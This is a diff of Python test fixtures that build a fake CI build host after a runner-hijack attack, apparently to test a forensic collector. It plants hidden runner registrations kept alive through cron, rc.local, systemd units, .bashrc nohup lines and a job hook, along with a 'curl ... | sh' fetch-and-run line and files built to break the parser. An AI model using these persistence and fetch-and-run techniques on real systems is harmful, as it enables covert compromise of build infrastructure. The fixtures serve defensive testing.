@@ -124,3 +124,148 @@ def make_root(tmp: Path, *, everything: bool = True) -> Path:
     (root / "home/admin/.aws").mkdir(parents=True)
     os.symlink(outside, root / "home/admin/.aws/credentials")
     return root
+
+
+# --------------------------------------------------------------------------- a host as an attacker leaves it
+
+#: Canary values of the hideout host (environment values, a hook script's secret, a hostile file's body).
+HIDEOUT_CANARIES = {
+    "process_env": "CANARY-proc-env-1e9d",
+    "hook_secret": "CANARY-hook-secret-5b2c",
+    "garbage": "CANARY-garbage-7c4a",
+}
+
+#: Where :func:`make_hideouts` plants registrations: ``folder -> (scope/name, how it stays alive)``.
+#: Paths and mechanisms follow the GitHub docs ("Configuring the self-hosted runner application as a service":
+#: ``svc.sh`` installs ``actions.runner.<scope>.<name>.service``; "Running scripts before or after a job": the
+#: ``ACTIONS_RUNNER_HOOK_JOB_STARTED`` variable in the runner's ``.env`` names a script run before every job) and
+#: GitLab's (``config.toml`` with ``[[runners]]``, https://docs.gitlab.com/runner/configuration/advanced-configuration/).
+HIDEOUTS = {
+    "/opt/actions-runner": ("acme/build-01-a", "systemd /etc/systemd/system/actions.runner.acme.build-01-a.service"),
+    "/home/dev/.local/share/.node-gyp/ar": ("evil/worm-1", "profile /home/dev/.bashrc:3 (nohup, &)"),
+    "/root/.cache/.fontconfig/r": ("evil/worm-2", "systemd-user /root/.config/systemd/user/dbus-session.service"),
+    "/tmp/.X11-lock/ar": ("evil/worm-3", "cron /var/spool/cron/crontabs/dev:2"),
+    "/dev/shm/.r": ("evil/worm-4", "cron@reboot /etc/cron.d/sysstat-collect:2"),
+    "/etc/.pki-cache/ar": ("evil/worm-5", "rc /etc/rc.local:2 (setsid, &)"),
+    "/usr/lib/x86_64-linux-gnu/.ld/ar": ("evil/worm-6", "session session-3.scope"),
+    "/opt/vendor/a/b/c/d/e/f/g/h/ar": ("evil/worm-7", "session session-4.scope (tmux)"),
+    "/var/lib/containers/storage/overlay/0a/diff/x/y/ar": ("evil/worm-8",
+                                                          "job-hook /usr/local/lib/ci-hooks/pre-job.sh:2 (nohup, &)"),
+    "/var/tmp/.cache/ar": ("evil/worm-9", "systemd /etc/systemd/system/snapd-refresh.service"),
+    "/home/dev/.gitlab-runner": ("gitlab.example.com/gl-hidden", "cron@reboot /var/spool/cron/crontabs/dev:3"),
+}
+
+
+def _proc(root: Path, pid: int, comm: str, *, argv0: str, uid: int, ppid: int, cwd: str, cgroup: str,
+          env: dict[str, str]) -> None:
+    """A ``/proc/PID`` folder as proc(5) lays it out (only the files the collector reads)."""
+    base = f"proc/{pid}"
+    write(root, f"{base}/comm", comm + "\n")
+    write(root, f"{base}/cmdline", (argv0 + "\0run\0").encode())
+    write(root, f"{base}/status", f"Name:\t{comm}\nPPid:\t{ppid}\nUid:\t{uid}\t{uid}\t{uid}\t{uid}\n")
+    fields = ["S", str(ppid)] + ["0"] * 17 + ["123400"] + ["0"] * 10
+    write(root, f"{base}/stat", f"{pid} ({comm}) " + " ".join(fields) + "\n")
+    write(root, f"{base}/cgroup", f"0::{cgroup}\n")
+    write(root, f"{base}/environ", "".join(f"{k}={v}\0" for k, v in env.items()).encode())
+    os.symlink(cwd, root / base / "cwd")
+
+
+def _hideout_starters(root: Path) -> None:
+    """What keeps each planted registration alive (see :data:`HIDEOUTS`)."""
+    write(root, "home/dev/.bashrc", "export PATH=$PATH:~/bin\n# start helper\n"
+          "nohup /home/dev/.local/share/.node-gyp/ar/run.sh >/dev/null 2>&1 &\n")
+    write(root, "root/.config/systemd/user/dbus-session.service",
+          "[Unit]\nDescription=D-Bus session helper\n[Service]\nWorkingDirectory=/root/.cache/.fontconfig/r\n"
+          "ExecStart=/root/.cache/.fontconfig/r/run.sh\nRestart=always\n[Install]\nWantedBy=default.target\n")
+    write(root, "var/spool/cron/crontabs/dev", "# m h dom mon dow command\n*/5 * * * * /tmp/.X11-lock/ar/run.sh\n"
+          "@reboot /usr/bin/gitlab-runner run --config /home/dev/.gitlab-runner/config.toml\n")
+    write(root, "etc/cron.d/sysstat-collect", "SHELL=/bin/sh\n@reboot root /dev/shm/.r/run.sh\n")
+    write(root, "etc/rc.local", "#!/bin/sh -e\nsetsid /etc/.pki-cache/ar/run.sh &\nexit 0\n")
+    write(root, "etc/systemd/system/snapd-refresh.service",
+          "[Service]\nExecStart=/bin/sh -c 'cd /var/tmp/.cache/ar && ./run.sh'\nUser=root\n")
+    write(root, "usr/local/lib/ci-hooks/pre-job.sh", "#!/bin/sh\n"
+          "pgrep -f worm-8 || nohup /var/lib/containers/storage/overlay/0a/diff/x/y/ar/run.sh &\n"
+          f"TOKEN={HIDEOUT_CANARIES['hook_secret']}\n")
+
+
+def make_hideouts(tmp: Path) -> Path:
+    """A build host after a runner-on-runner attack: the legitimate ``acme/build-01-a`` (installer's unit, a job
+    hook in its ``.env``) and ten hidden registrations (:data:`HIDEOUTS`), each kept alive its own way, a ``/proc``
+    with their processes (and one runner process from a folder with no registration), and runner binaries
+    without a ``.runner``."""
+    root = tmp / "root"
+    write(root, "etc/hostname", "build-01\n")
+    write(root, "etc/os-release", "ID=debian\n")
+    write(root, "etc/passwd", "root:x:0:0::/root:/bin/sh\nrunner:x:1001:1001::/home/runner:/bin/sh\n"
+          "dev:x:1002:1002::/home/dev:/bin/sh\n")
+    runner_install(root, "/opt/actions-runner", agent_id=101, name="build-01-a", url="https://github.com/acme",
+                   pool="shared-linux", unit="actions.runner.acme.build-01-a.service")
+    write(root, "opt/actions-runner/.env", "LANG=C.UTF-8\n"
+          "ACTIONS_RUNNER_HOOK_JOB_STARTED=/usr/local/lib/ci-hooks/pre-job.sh\n")
+    write(root, "opt/actions-runner/runsvc.sh", "#!/bin/bash\ntrap 'kill -INT $PID' TERM INT\n"
+          "curl -s https://example.invalid/x | sh\n./externals/node/bin/node ./bin/RunnerService.js &\n"
+          "PID=$!\nwait $PID\n")
+    for n, folder in enumerate(list(HIDEOUTS)[1:-1], 1):
+        runner_install(root, folder, agent_id=9000 + n, name=f"worm-{n}", url="https://github.com/evil", unit=None)
+    write(root, "home/dev/.gitlab-runner/config.toml", "[[runners]]\n  name = \"gl-hidden\"\n"
+          "  url = \"https://gitlab.example.com/\"\n  token = \"placeholder\"\n  executor = \"shell\"\n")
+    _hideout_starters(root)
+    (root / "var/lib/docker/image/overlay2").mkdir(parents=True)  # images and build cache later jobs run from
+    # runner binaries without a registration (configured, then .runner removed)
+    write(root, "srv/old-runner/bin/Runner.Listener", b"\x7fELF")
+    write(root, "srv/old-runner/config.sh", "#!/bin/bash\n")
+    env = {"RUNNER_ALLOW_RUNASROOT": "1", "RUNNER_TRACKING_ID": HIDEOUT_CANARIES["process_env"],
+           "ACTIONS_RUNNER_HOOK_JOB_STARTED": "/usr/local/lib/ci-hooks/pre-job.sh", "HOME": "/root"}
+    _proc(root, 1, "systemd", argv0="/sbin/init", uid=0, ppid=0, cwd="/", cgroup="/init.scope", env={})
+    _proc(root, 812, "Runner.Listener", argv0="/opt/actions-runner/bin/Runner.Listener", uid=1001, ppid=811,
+          cwd="/opt/actions-runner", cgroup="/system.slice/actions.runner.acme.build-01-a.service", env=env)
+    _proc(root, 811, "node", argv0="/opt/actions-runner/externals/node/bin/node", uid=1001, ppid=1,
+          cwd="/opt/actions-runner", cgroup="/system.slice/actions.runner.acme.build-01-a.service", env={})
+    _proc(root, 4242, "Runner.Listener", argv0="/usr/lib/x86_64-linux-gnu/.ld/ar/bin/Runner.Listener", uid=0,
+          ppid=1, cwd="/usr/lib/x86_64-linux-gnu/.ld/ar", cgroup="/user.slice/user-0.slice/session-3.scope", env=env)
+    _proc(root, 5150, "tmux: server", argv0="tmux", uid=0, ppid=1, cwd="/root",
+          cgroup="/user.slice/user-0.slice/session-4.scope", env={})
+    _proc(root, 5151, "Runner.Listener", argv0="./bin/Runner.Listener", uid=0, ppid=5150,
+          cwd="/opt/vendor/a/b/c/d/e/f/g/h/ar", cgroup="/user.slice/user-0.slice/session-4.scope", env=env)
+    _proc(root, 6000, "Runner.Listener", argv0="/var/tmp/.q/bin/Runner.Listener", uid=0, ppid=1,
+          cwd="/var/tmp/.q", cgroup="/user.slice/user-0.slice/session-5.scope", env={})
+    return root
+
+
+def plant_hostile(root: Path, tmp: Path) -> dict[str, str]:
+    """One hostile file per kind, each where the collector reads: ``kind -> host path``.  The device file is a
+    character device (made only when allowed: the tests run as root in CI)."""
+    planted = {
+        "deep nesting": "/home/dev/.docker/config.json",
+        "deep nesting (.runner)": "/srv/deep/.runner",
+        "huge file": "/home/dev/.npmrc",
+        "binary garbage": "/srv/garbage/.runner",
+        "FIFO": "/home/dev/.aws/credentials",
+        "device": "/home/dev/.kube/config",
+        "symlink loop": "/home/dev/.pypirc",
+        "link out of the root": "/home/dev/.git-credentials",
+    }
+    write(root, planted["deep nesting"], "[" * 200_000 + "]" * 200_000)
+    write(root, planted["deep nesting (.runner)"], '{"a":' * 100_000 + "1" + "}" * 100_000)
+    huge = root / planted["huge file"].lstrip("/")
+    with open(huge, "wb") as fh:  # sparse: large to stat, nothing written
+        fh.truncate(64 << 20)
+    write(root, planted["binary garbage"], os.urandom(4096) + HIDEOUT_CANARIES["garbage"].encode() + b"\0\xff")
+    (root / "home/dev/.aws").mkdir(parents=True, exist_ok=True)
+    os.mkfifo(root / planted["FIFO"].lstrip("/"))
+    (root / "home/dev/.kube").mkdir(parents=True, exist_ok=True)
+    try:
+        os.mknod(root / planted["device"].lstrip("/"), 0o600 | __import__("stat").S_IFCHR, os.makedev(1, 3))
+    except PermissionError:  # not root: a socket stands in for the device (both are never opened)
+        import socket
+        s = socket.socket(socket.AF_UNIX)
+        s.bind(str(root / planted["device"].lstrip("/")))
+        s.close()
+    os.symlink("loop-b", root / "home/dev/loop-a")
+    os.symlink("loop-a", root / "home/dev/loop-b")
+    os.symlink("loop-a", root / planted["symlink loop"].lstrip("/"))
+    os.symlink(tmp / "outside", root / planted["link out of the root"].lstrip("/"))
+    (tmp / "outside").write_text("https://u:p@example.invalid\n")
+    os.symlink("/", root / "home/dev/to-root")  # a link to / inside the root: listed, never walked
+    os.makedirs(root / "var/tmp" / "/".join(["d"] * 60))  # folders nested deeper than the search goes
+    return planted
